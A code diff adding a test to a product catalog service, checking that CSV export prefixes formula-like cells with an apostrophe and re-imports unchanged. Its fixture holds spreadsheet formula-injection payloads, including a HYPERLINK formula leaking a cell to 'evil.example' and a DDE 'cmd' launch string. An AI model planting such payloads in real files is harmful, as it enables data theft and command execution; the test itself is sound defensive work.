@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, test } from 'node:test';
 import { formatCatalog, parseCatalogFile } from '../../src/catalog/catalog.file.ts';
+import { protectCsvCell, readCsvCell } from '../../src/shared/csv-cells.ts';
 import type { CatalogService } from '../../src/catalog/catalog.service.ts';
 import { createClient, loginOk } from '../helpers/api.ts';
 import { ENGINES, startTestStore, type TestStore } from '../helpers/store.ts';
@@ -128,6 +129,53 @@ for (const engine of ENGINES) {
       } finally {
         await fresh.close();
       }
+    });
+
+    test('text a spreadsheet would run as a formula is exported with a leading apostrophe, and imported back to the same values', async () => {
+      const formulas = {
+        name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        category: "+cmd|'/C calc'!A0",
+        description: '@SUM(1+1)*cmd',
+        terms: "'=already quoted",
+        redemption_instructions: '-2+3',
+      };
+      const line = `name,category,country,currency,denominations,description,terms,redemption_instructions\n${[
+        formulas.name,
+        formulas.category,
+        'USA',
+        'USD',
+        '10',
+        formulas.description,
+        formulas.terms,
+        formulas.redemption_instructions,
+      ]
+        .map((cell) => `"${cell.replaceAll('"', '""')}"`)
+        .join(',')}`;
+      // A file written by a person: the cells are taken as written (only an apostrophe before a formula's start is dropped).
+      const written = parseCatalogFile(line, 'csv');
+      assert.equal(written.records[0]!.fields.terms, '=already quoted');
+      const imported = await catalog.importCatalog([{ line: 2, fields: { ...written.records[0]!.fields, terms: formulas.terms } }]);
+      assert.deepEqual(imported.errors, []);
+      const before = await catalog.listProducts();
+
+      const { file } = (await exportOf('?format=csv')).json();
+      const row = file.split('\n').find((text: string) => text.includes('HYPERLINK'))!;
+      for (const cell of ['"\'=HYPERLINK(', "'+cmd|", "'@SUM(1+1)*cmd", "''=already quoted", "'-2+3"])
+        assert.ok(row.includes(cell), `${cell} in ${row}`);
+      assert.ok(!/(^|,)"?[=+@-]/.test(row), `no cell of ${row} starts a formula`);
+      for (const number of ['-5', '2.50', '10']) assert.equal(protectCsvCell(number), number, 'a number is written as it is');
+      for (const text of ['\t=1', '\r=1', 'plain', "'Tis", '']) assert.equal(readCsvCell(protectCsvCell(text)), text);
+
+      const parsed = parseCatalogFile(file, 'csv');
+      assert.deepEqual(parsed.errors, []);
+      const again = await catalog.importCatalog(parsed.records);
+      assert.deepEqual([again.errors, again.created, again.updated], [[], 0, 0]);
+      assert.deepEqual(await catalog.listProducts(), before, 'the export imported back changes nothing');
+      const product = before.find((p) => p.name === formulas.name)!;
+      assert.deepEqual(
+        [product.description, product.terms, product.redemption_instructions],
+        [formulas.description, formulas.terms, formulas.redemption_instructions],
+      );
     });
   });
 }
